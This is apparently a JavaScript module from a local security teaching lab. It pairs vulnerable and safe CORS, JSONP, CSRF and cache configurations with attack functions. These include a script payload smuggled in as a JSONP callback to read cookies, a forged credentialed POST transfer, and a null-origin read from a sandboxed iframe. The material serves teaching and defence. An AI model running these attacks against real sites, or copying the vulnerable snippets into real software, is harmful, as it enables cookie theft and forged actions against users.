// The security lab's scenarios: vulnerable configurations next to safe ones (variant kind:
// vulnerable, safe, or partial: a defence against some attackers only), each attacked
// from real pages on other origins. Shared by the victim's page (security.js) and the
// attacker's page (attack.js).
import { apiUrl, loadJsonp, sendFetch, sendXhr } from './api.js';

// Where attacks come from. The same-site attacker is another port of localhost: SameSite
// cookies do not stop it. The others are different sites.
export const ATTACKERS = {
  'same-site': { key: 'attacker_origin', label: 'another port of localhost (same site)' },
  'cross-site': { key: 'untrusted_origin', label: '127.0.0.1 (another site)' },
  'prefix-lookalike': { key: 'prefix_lookalike_origin', label: 'a look-alike that starts like the trusted origin' },
  'suffix-lookalike': { key: 'suffix_lookalike_origin', label: 'a look-alike that ends like the trusted origin' },
};

const parse = (text) => {
  try {
    return JSON.parse(text);
  } catch {
    return null;
  }
};

// --- attacks: each runs in the attacker's page and resolves with what the attacker got ----

async function readSecret(ctx, variant) {
  const result = await sendXhr({ method: 'GET', url: apiUrl(ctx.api, `/security/secret/${variant.check}`, { run: ctx.run }), withCredentials: true });
  const body = result.readable ? parse(result.responseText) : null;
  return { readable: result.readable, partnerData: body?.partner_data ?? null, secret: body?.secret ?? null };
}

// From a sandboxed iframe (no allow-same-origin) every request says Origin: null.
function readSecretFromSandbox(ctx, variant) {
  return new Promise((resolve) => {
    const target = apiUrl(ctx.api, `/security/secret/${variant.check}`, { run: ctx.run });
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    frame.hidden = true;
    frame.src = `/static/sandbox.html#${encodeURIComponent(target)}`;
    window.addEventListener('message', function answer(event) {
      if (event.source !== frame.contentWindow) return;
      window.removeEventListener('message', answer);
      frame.remove();
      resolve(event.data);
    });
    document.body.append(frame);
  });
}

async function jsonpLeak(ctx, variant) {
  const callback = `leak_${ctx.run.replace(/-/g, '_')}`;
  const result = await loadJsonp(apiUrl(ctx.api, variant.path, { callback: `labJsonp.${callback}`, run: ctx.run }), callback);
  const body = parse(result.responseText);
  return { readable: result.readable, secret: body?.secret ?? null };
}

// Frames the API's JSONP URL with markup as the callback: if the API echoes it as HTML, the
// attacker's script runs on the API origin and reports back.
function injectCallback(ctx, variant) {
  return new Promise((resolve) => {
    const payload = '<script>parent.postMessage({ injectedOrigin: location.origin, cookie: document.cookie }, "*")</script>';
    const frame = document.createElement('iframe');
    frame.hidden = true;
    frame.src = apiUrl(ctx.api, variant.path, { callback: payload, run: ctx.run });
    const finish = (outcome) => {
      window.removeEventListener('message', answer);
      frame.remove();
      resolve(outcome);
    };
    function answer(event) {
      if (event.source === frame.contentWindow) finish({ injectedOrigin: event.data.injectedOrigin, cookie: event.data.cookie });
    }
    window.addEventListener('message', answer);
    // A page that did not run the script still loads; give a script that did time to report.
    frame.addEventListener('load', () => setTimeout(() => finish({ injectedOrigin: null }), 500));
    document.body.append(frame);
  });
}

// The classic CSRF: a simple, credentialed, fire-and-forget POST. The attacker needs no answer.
async function forgeTransfer(ctx, variant) {
  const result = await sendFetch({
    method: 'POST',
    url: apiUrl(ctx.api, `/security/transfer/${variant.defence}`, { run: ctx.run }),
    headers: { 'Content-Type': 'text/plain' },
    body: 'amount=1000',
    withCredentials: true,
    mode: 'no-cors',
  });
  return { sent: result.outcome === 'resolved' };
}

// The attacker asks first, so the shared cache stores the answer made for the attacker's origin.
async function poisonCache(ctx, variant) {
  const result = await sendXhr({ method: 'GET', url: apiUrl(ctx.api, `/security/cache/${variant.mode}/data`, { key: ctx.run, run: ctx.run }) });
  return { readable: result.readable };
}

// --- the victim's side: what the attack did, as the victim and the server see it -------------

async function victimReadsCache(ctx, variant) {
  const result = await sendXhr({ method: 'GET', url: apiUrl(ctx.api, `/security/cache/${variant.mode}/data`, { key: ctx.run, run: ctx.run }) });
  return { victimCanRead: result.readable, cache: result.responseHeaders['x-lab-cache'] ?? null };
}

async function transfersMade(ctx) {
  const response = await fetch(apiUrl(ctx.api, '/security/transfers', { run: ctx.run }), { cache: 'no-store' });
  return { transfers: (await response.json()).transfers.length };
}

const CSRF_REFUSALS = {
  401: 'the session cookie did not arrive (SameSite, or this browser blocks third-party cookies)',
  403: 'the server refused the Origin',
  415: 'the server accepts only application/json, which a simple request cannot send',
};

const secretVerdict = (got) =>
  got.secret
    ? { outcome: 'leaked', summary: `The attacker read the victim's secret: ${got.secret}.` }
    : got.readable
      ? { outcome: 'partial', summary: `The attacker read the answer${got.partnerData ? ` (${got.partnerData})` : ''}, but without the victim's cookie: this browser did not send it (SameSite, or third-party cookies blocked).` }
      : { outcome: 'stopped', summary: 'The browser refused to let the attacker read the answer: no matching Access-Control-Allow-Origin.' };

export const SCENARIOS = [
  {
    id: 'reflect-origin',
    title: 'Origin reflection with credentials',
    explain:
      'What CORS(app, supports_credentials=True) does with its default origins: it echoes any Origin back with Access-Control-Allow-Credentials: true, so any page the victim visits can read what the victim can read.',
    variants: [
      { id: 'vulnerable', kind: 'vulnerable', label: 'Reflects any Origin', check: 'reflect', code: "CORS(app, supports_credentials=True)  # origins defaults to '*': every Origin is echoed" },
      { id: 'safe', kind: 'safe', label: 'Exact allowlist', check: 'exact', code: 'CORS(app, origins=["http://localhost:8000"], supports_credentials=True)' },
    ],
    attackers: ['same-site', 'cross-site'],
    attack: readSecret,
    verdict: secretVerdict,
  },
  {
    id: 'null-origin',
    title: 'Trusting the null origin',
    explain:
      'Sandboxed iframes, data: URLs and file:// pages all send Origin: null. An allowlist that contains "null" trusts every one of them, including an attacker\u2019s sandboxed frame.',
    variants: [
      { id: 'vulnerable', kind: 'vulnerable', label: 'Allows "null"', check: 'null', code: 'allowed = ["http://localhost:8000", "null"]' },
      { id: 'safe', kind: 'safe', label: 'Exact allowlist, no null', check: 'exact', code: 'allowed = ["http://localhost:8000"]' },
    ],
    attackers: ['same-site', 'cross-site'],
    attack: readSecretFromSandbox,
    verdict: secretVerdict,
  },
  {
    id: 'origin-checks',
    title: 'Origin checks by prefix, suffix or substring',
    explain:
      'A regular expression without $ is a prefix check (flask-cors matches string origins with re.match): it admits any origin that starts alike, another port of localhost or localhost.attacker.localhost. A suffix or substring check admits attacker.localhost. Compare origins exactly.',
    variants: [
      { id: 'prefix', kind: 'vulnerable', label: 'Regex without $', check: 'prefix', code: 're.match(r"http://localhost", origin)' },
      { id: 'suffix', kind: 'vulnerable', label: 'Suffix', check: 'suffix', code: 'origin.endswith("localhost:8000")' },
      { id: 'substring', kind: 'vulnerable', label: 'Substring', check: 'substring', code: '"localhost:8000" in origin' },
      { id: 'exact', kind: 'safe', label: 'Exact', check: 'exact', code: 'origin in {"http://localhost:8000"}' },
    ],
    attackers: ['same-site', 'prefix-lookalike', 'suffix-lookalike'],
    attack: readSecret,
    verdict: secretVerdict,
  },
  {
    id: 'jsonp-leak',
    title: 'JSONP leaking cookie-authenticated data',
    explain:
      'A script element sends the victim\u2019s cookies and is not subject to CORS: JSONP whose answer depends on the cookie hands it to any page that includes the script. JSONP must carry public data only.',
    variants: [
      { id: 'vulnerable', kind: 'vulnerable', label: 'JSONP with the user\u2019s data', path: '/security/jsonp/leaky', code: 'return f"{callback}({json.dumps(current_user_data())})"' },
      { id: 'safe', kind: 'safe', label: 'JSONP with public data only', path: '/jsonp', code: 'return f"/**/{callback}({json.dumps(PUBLIC_DATA)})"' },
    ],
    attackers: ['same-site', 'cross-site'],
    attack: jsonpLeak,
    verdict: (got) =>
      got.secret
        ? { outcome: 'leaked', summary: `The attacker's script tag received the victim's secret: ${got.secret}.` }
        : { outcome: 'stopped', summary: got.readable ? 'The script ran, but carried no secret: only public data, or no cookie was sent.' : 'The script did not run.' },
  },
  {
    id: 'jsonp-callback',
    title: 'An unvalidated JSONP callback',
    explain:
      'A callback echoed unchecked, in a response a browser will render as HTML, lets an attacker run script on the API\u2019s own origin (reflected XSS). Validate the callback as an identifier, serve JavaScript with X-Content-Type-Options: nosniff.',
    variants: [
      { id: 'vulnerable', kind: 'vulnerable', label: 'Callback echoed as HTML', path: '/security/jsonp/unvalidated', code: 'return Response(f"{callback}({data})", mimetype="text/html")' },
      { id: 'safe', kind: 'safe', label: 'Callback validated', path: '/jsonp', code: 'if not CALLBACK.match(callback): abort(400)  # plus text/javascript and nosniff' },
    ],
    attackers: ['same-site', 'cross-site'],
    attack: injectCallback,
    verdict: (got) =>
      got.injectedOrigin
        ? { outcome: 'leaked', summary: `The attacker's script ran on ${got.injectedOrigin} and read its document.cookie: "${got.cookie}".` }
        : { outcome: 'stopped', summary: 'No script ran on the API origin: the callback was refused.' },
  },
  {
    id: 'csrf',
    title: 'A simple POST changes state (CSRF)',
    explain:
      'CORS stops reading, not sending: a text/plain POST needs no preflight and goes out with the victim\u2019s cookies. Requiring application/json forces a preflight that the API never grants; checking Origin refuses every other origin; SameSite=Lax stops only cross-site attackers: another port of localhost is the same site.',
    variants: [
      { id: 'none', kind: 'vulnerable', label: 'No defence', defence: 'none', samesite: 'None', code: '@app.post("/transfer")  # trusts the cookie alone' },
      { id: 'require-json', kind: 'safe', label: 'Require application/json', defence: 'require-json', samesite: 'None', code: 'if request.mimetype != "application/json": abort(415)' },
      { id: 'check-origin', kind: 'safe', label: 'Check Origin', defence: 'check-origin', samesite: 'None', code: 'if request.headers.get("Origin") not in ALLOWED: abort(403)' },
      { id: 'samesite-lax', kind: 'partial', label: 'SameSite=Lax cookie (stops cross-site only)', defence: 'none', samesite: 'Lax', code: 'response.set_cookie("lab_session", token, samesite="Lax")' },
    ],
    attackers: ['same-site', 'cross-site'],
    attack: forgeTransfer,
    victimAfter: transfersMade,
    verdict: (got, after, wire) =>
      after.transfers > 0
        ? { outcome: 'leaked', summary: 'The forged POST went through: the server recorded a transfer in the victim\u2019s name.' }
        : { outcome: 'stopped', summary: `No transfer was recorded: ${CSRF_REFUSALS[wire[0]?.status] ?? 'the POST never arrived'}.` },
  },
  {
    id: 'cache-vary',
    title: 'Missing Vary: Origin behind a shared cache',
    explain:
      'A cache keyed by URL alone stores the answer made for one origin and hands it to the next. Here the attacker asks first; the trusted page then gets the attacker\u2019s answer, without its Access-Control-Allow-Origin, and breaks. Vary: Origin makes the cache key each origin apart.',
    variants: [
      { id: 'no-vary', kind: 'vulnerable', label: 'No Vary: Origin', mode: 'no-vary', code: 'response.headers["Access-Control-Allow-Origin"] = origin  # and no Vary' },
      { id: 'vary', kind: 'safe', label: 'Vary: Origin', mode: 'vary', code: 'response.headers["Vary"] = "Origin"' },
    ],
    attackers: ['cross-site'],
    attack: poisonCache,
    victimAfter: victimReadsCache,
    verdict: (got, after) =>
      after.victimCanRead
        ? { outcome: 'stopped', summary: `The trusted page got its own answer (cache ${after.cache}).` }
        : { outcome: 'leaked', summary: 'The trusted page got the answer cached for the attacker\u2019s origin and was refused: one origin\u2019s answer handed to another.' },
  },
];

export const findScenario = (id) => SCENARIOS.find((scenario) => scenario.id === id);
